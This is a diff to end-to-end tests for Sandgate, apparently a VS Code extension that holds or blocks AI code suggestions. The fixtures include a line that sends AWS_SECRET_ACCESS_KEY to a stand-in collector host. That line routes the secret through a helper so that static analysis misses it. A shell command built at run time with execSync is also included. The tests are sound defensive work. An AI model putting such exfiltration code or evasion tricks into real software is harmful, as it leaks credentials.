@@ -536,14 +536,17 @@ const TS = {
   allow: "return a + b;",
   // child_process with a command string built at run time: the JS rule pack holds it for review.
   held: 'return execSync("git log --oneline " + branch).toString();',
-  // Reads a credential from the environment and sends it out: seen by the Node sandbox's run, which blocks it.
-  exfil: 'const token = process.env.AWS_SECRET_ACCESS_KEY;\nawait fetch(endpoint + "?k=" + token);',
+  // Sends a credential out, read through the document's own helper: the static capability analysis does not
+  // follow a value returned by the module's functions, so only the Node sandbox's run sees it, and blocks it.
+  exfil: 'await fetch(endpoint + "?k=" + setting("AWS_SECRET_ACCESS_KEY"));',
 };
 const TS_FIXTURES = {
   "ts_allow.ts": "// sandgate-e2e: ts-allow\nexport function add(a: number, b: number) {\n}\n",
   "ts_held.ts":
     '// sandgate-e2e: ts-held\nimport { execSync } from "node:child_process";\n\nexport function history(branch: string) {\n}\n',
-  "ts_exfil.ts": '// sandgate-e2e: ts-exfil\nexport const endpoint: string = "https://metrics-collector.example.net/v1";\n',
+  "ts_exfil.ts":
+    '// sandgate-e2e: ts-exfil\nexport const endpoint: string = "https://metrics-collector.example.net/v1";\n' +
+    'function setting(name: string): string {\n  return process.env[name] ?? "";\n}\n',
 };
 const tsScript = {
   [`${TS.allow}<CURSOR>`]: "",
@@ -642,7 +645,8 @@ describe("Sandgate in VS Code (TypeScript, trusted workspace)", () => {
       const lens = wb.page.locator(".codelens-decoration", { hasText: "AI suggestion held" }).first();
       await lens.waitFor({ state: "visible", timeout: 30000 });
       const lensText = await lens.innerText();
-      assert.match(lensText, /⚠ AI suggestion held: .*(shell command|js\.exec-built)/, lensText);
+      // The lens leads with what the suggestion adds (the capability summary), as for Python.
+      assert.match(lensText, /⚠ AI suggestion held: adds: runs `git log --oneline …` through a shell/, lensText);
       assert.match(lensText, /Review/);
       assert.match(lensText, /Discard/);
       await wb.screenshot("ts-held-codelens");
@@ -696,7 +700,7 @@ describe("Sandgate in VS Code (TypeScript, trusted workspace)", () => {
       assert.match(hovered, /network\.denied/);
       assert.match(hovered, /metrics-collector\.example\.net/);
       assert.match(hovered, /never shown/);
-      assert.ok(!hovered.includes("process.env.AWS_SECRET_ACCESS_KEY"), "a blocked suggestion's code is not in the hover");
+      assert.ok(!hovered.includes('setting("AWS_SECRET_ACCESS_KEY")'), "a blocked suggestion's code is not in the hover");
       await wb.screenshot("ts-blocked-hover");
       await wb.press("Escape");
 
